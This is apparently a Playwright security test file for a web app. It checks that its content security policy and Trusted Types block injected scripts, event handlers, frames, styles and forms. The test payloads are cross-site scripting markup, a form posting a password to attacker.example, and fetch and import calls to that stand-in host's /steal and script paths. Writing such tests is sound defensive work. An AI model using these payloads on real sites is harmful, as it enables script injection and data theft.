import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { ConsoleMessage, Page, Route } from '@playwright/test'
import { readConfig } from '../../../server/config.ts'
import { createBrowserConfig } from '../../../server/pages/client-config.ts'
import { emulatorUrl } from '../accounts.ts'
import { expect, overrideConfig, servePolicy, test } from '../fixtures.ts'

const attacker = 'https://attacker.example'

/** Route the attacker's origin to a server that allows every request. Returns the list of requested URLs. */
async function routeAttacker(page: Page) {
  const attackerRequests: string[] = []
  await page.context().route(`${attacker}/**`, (route) => {
    attackerRequests.push(route.request().url())
    return route.fulfill({ contentType: 'text/html', headers: { 'access-control-allow-origin': '*' }, body: 'window.ran = "a script from elsewhere"' })
  })
  return attackerRequests
}

/** Record the directives that the browser enforces in pages that are opened from now on. The returned function reads them. */
async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
  })
  return () => page.evaluate(() => [...new Set((window as unknown as { violations: string[] }).violations)].sort())
}

const readExecuted = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran ?? 'nothing')

/** Hostile markup: scripts, handlers, styles, frames, media and forms that run, load or send without a user action. */
const injectedMarkup = `
  <base href="${attacker}/">
  <script>window.ran = 'an inline script'</script>
  <script type="module">window.ran = 'an inline module'</script>
  <script src="${attacker}/a.js"></script>
  <script src="data:text/javascript,window.ran = 'a script in an address'"></script>
  <img src="data:," alt="" onerror="window.ran = 'a handler'">
  <img src="${attacker}/pixel.png" alt="">
  <style>body { outline: 9px solid red }</style>
  <link rel="stylesheet" href="${attacker}/a.css">
  <p id="styled" style="position: fixed">over everything</p>
  <iframe src="${attacker}/frame"></iframe>
  <iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
  <object data="${attacker}/object"></object>
  <video src="${attacker}/film.mp4"></video>
  <a id="link" href="javascript:window.ran = 'a javascript: link'">Free pizza</a>
  <form id="form" action="${attacker}/form" method="post"><input name="password" value="secret"></form>`

/** The directives that block the hostile markup. */
const enforcedDirectives = [
  ...['base-uri', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src'],
  ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
]

const pages = ['/', '/lounge', '/graphql', '/api/docs']

test('injected markup cannot run, restyle, frame or exfiltrate, and the app cannot be framed', async ({ page, expectError, baseURL }) => {
  expectError(/./)
  const attackerRequests = await routeAttacker(page)
  const readViolations = await recordViolations(page)
  for (const path of pages)
    await test.step(`injected markup in ${path}`, async () => {
      // Only the document: the lounge and the sandbox send their queries to /graphql.
      const inject = async (route: Route) => {
        if (!route.request().isNavigationRequest()) return route.fallback()
        const response = await route.fetch()
        await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injectedMarkup}</body>`) })
      }
      await page.route(path, inject)
      await page.goto(path)
      await page.evaluate(() => document.getElementById('link')?.click())
      await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit())
      await expect.poll(() => readViolations()).toEqual(enforcedDirectives)
      expect(await readExecuted(page)).toBe('nothing')
      const readStyles = () => [getComputedStyle(document.body).outlineStyle, getComputedStyle(document.getElementById('styled') ?? document.body).position]
      expect(await page.evaluate(readStyles)).toEqual(['none', 'static'])
      expect(attackerRequests).toEqual([])
    })
  await test.step('frames', () => expectNotFramed(page, baseURL ?? ''))
})

/** Expects that a page of another site cannot frame the pages of the app. */
async function expectNotFramed(page: Page, address: string) {
  // A real server: the browser does not let a page of a routed, fictitious origin frame local addresses.
  const site = createServer((request, response) => {
    const framed = new URL(request.url ?? '', 'http://site').searchParams.get('frame')
    response.setHeader('Content-Type', 'text/html').end(framed ? `<iframe src="${framed}"></iframe>` : 'unguarded')
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  const siteUrl = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`
  const expectFramed = async (url: string, expectedText: string) => {
    await page.goto(`${siteUrl}?frame=${encodeURIComponent(url)}`)
    await expect.poll(() => page.frames()[1]?.url(), url).toBe(expectedText)
  }
  await expectFramed(`${siteUrl}alone`, `${siteUrl}alone`)
  for (const path of [...pages, '/api/openapi.json']) await expectFramed(address + path, 'chrome-error://chromewebdata/')
  site.closeAllConnections()
  site.close()
}

/** Try to use text as markup, code or URL in every way a script can. Resolves with the name of the error of each attempt. */
const attemptInjections = (site: string) =>
  new Promise<Record<string, string>>((done) => {
    const script = () => document.body.appendChild(document.createElement('script'))
    const cases: Record<string, () => unknown> = {
      // biome-ignore lint/security/noGlobalEval: the test checks that it is blocked
      eval: () => window.eval('window.ran = "eval"'),
      Function: () => new Function('window.ran = "Function"')(),
      innerHTML: () => {
        document.body.innerHTML = '<p>x</p>'
      },
      outerHTML: () => {
        document.body.outerHTML = '<p>x</p>'
      },
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
      'document.write': () => document.write('<p>x</p>'),
      parseFromString: () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
      createContextualFragment: () => document.createRange().createContextualFragment('<p>x</p>'),
      srcdoc: () => {
        document.createElement('iframe').srcdoc = '<p>x</p>'
      },
      'text of a script': () => {
        script().text = 'window.ran = "text"'
      },
      'address of a script': () => {
        script().src = '/assets/x.js'
      },
      'handler by attribute': () => document.body.setAttribute('onclick', 'window.ran = "handler"'),
      'a policy of its own': () => (window as any).trustedTypes.createPolicy('anything', { createHTML: (html: string) => html }),
      'a second policy of that name': () => (window as any).trustedTypes.createPolicy('default', { createHTML: (html: string) => html }),
      worker: () => new Worker(URL.createObjectURL(new Blob(['']))),
      fetch: () => fetch(`${site}/steal`),
      import: () => import(`${site}/a.js`),
    }
    // In a separate task: code that runs while Playwright evaluates its script may use eval.
    setTimeout(async () => {
      const outcome: Record<string, string> = {}
      for (const [name, attempt] of Object.entries(cases)) {
        try {
          await attempt()
          outcome[name] = 'succeeded'
        } catch (error) {
          outcome[name] = (error as Error).name
        }
      }
      done(outcome)
    })
  })

test('text never becomes markup or code, and scripts come from nobody but the sign-in provider', async ({ page, expectError }) => {
  expectError(/./)
  const attackerRequests = await routeAttacker(page)
  await page.goto('/lounge')
  await expect(page.getByRole('article').first()).toBeVisible()
  const outcome = await page.evaluate(attemptInjections, attacker)
  expect(outcome).toEqual({
    ...Object.fromEntries(Object.keys(outcome).map((name) => [name, 'TypeError'])),
    eval: 'EvalError',
    Function: 'EvalError',
  })
  expect(Object.keys(outcome)).toHaveLength(17)
  expect(await readExecuted(page)).toBe('nothing')
  expect(attackerRequests).toEqual([])
  await expect(page.getByRole('article').first()).toBeVisible()
  await test.step('user markup is sanitized or refused on every page', async () => {
    const errors: string[] = []
    const record = (message: ConsoleMessage) => message.type() === 'error' && errors.push(message.text())
    page.on('console', record)
    const hostile = '<p>plain</p><img src="data:," onerror="window.ran = 1"><a href="javascript:x">link</a>'
    const renderHtml = (html: string) => {
      const element = document.createElement('div')
      try {
        element.innerHTML = html
      } catch (error) {
        return (error as Error).name
      }
      return element.innerHTML
    }
    await page.goto('/graphql')
    expect(await page.evaluate(renderHtml, hostile)).toBe('<p>plain</p><img src="data:,"><a>link</a>')
    const cleaned = page.waitForRequest(/after-cleaning/)
    const loaded: string[] = []
    page.on('request', (request) => loaded.push(new URL(request.url()).search))
    await page.evaluate(() => {
      const { defaultPolicy } = (window as unknown as { trustedTypes: { defaultPolicy: { createHTML(html: string): unknown } } }).trustedTypes
      defaultPolicy.createHTML('<img src="/icon.png?while-cleaning" onerror="window.ran = 1">')
      new Image().src = '/icon.png?after-cleaning'
    })
    await cleaned
    // A document with a window loads an image as soon as it is parsed, even if it is not displayed.
    expect(loaded).not.toContain('?while-cleaning')
    expect(await readExecuted(page)).toBe('nothing')
    await page.goto('/api/docs')
    await expect(page.locator('.opblock').first()).toBeVisible()
    expect(await page.evaluate(renderHtml, hostile)).toBe('TypeError')
    expect(await page.evaluate(renderHtml, '<p><code>plain</code></p>')).toBe('<p><code>plain</code></p>')
    page.off('console', record)
    // The browser reports blocked event handlers wherever markup is parsed, even in documents without a window.
    expect(errors.filter((error) => !/Executing inline event handler violates|TrustedHTML|Trusted Type/.test(error))).toEqual([])
  })
  await test.step("only the provider's popup may load its script", async () => {
    const project = { NODE_ENV: 'development', FIREBASE_PROJECT_ID: 'demo-thinnai', FIREBASE_API_KEY: 'demo-key', GOOGLE_SIGN_IN: 'on' }
    await overrideConfig(page, { googleSignIn: true })
    await servePolicy(page, '/login', createBrowserConfig(readConfig(project), new URL(emulatorUrl).host).policies.app)
    // Like the real script, it has a trusted-types policy of its own to load the next one.
    const first = `const { createScriptURL } = { createScriptURL: (url) => url }
      const own = trustedTypes.createPolicy('gapi#gapi', { createScriptURL })
      const next = document.createElement('script')
      next.src = own.createScriptURL('https://apis.google.com/_/next.js')
      document.head.append(next)`
    await page.route('https://apis.google.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: route.request().url().includes('api.js') ? first : "window.ran = 'the second script'" }),
    )
    await page.goto('/login')
    await page.getByRole('button', { name: 'Continue with Google' }).click()
    await expect.poll(() => readExecuted(page)).toBe('the second script')
    const result = await page.evaluate((url) => {
      try {
        document.createElement('script').src = url
        return 'accepted'
      } catch (error) {
        return (error as Error).name
      }
    }, `${attacker}/a.js`)
    expect(result).not.toBe('accepted')
    expect(attackerRequests).toEqual([])
  })
})
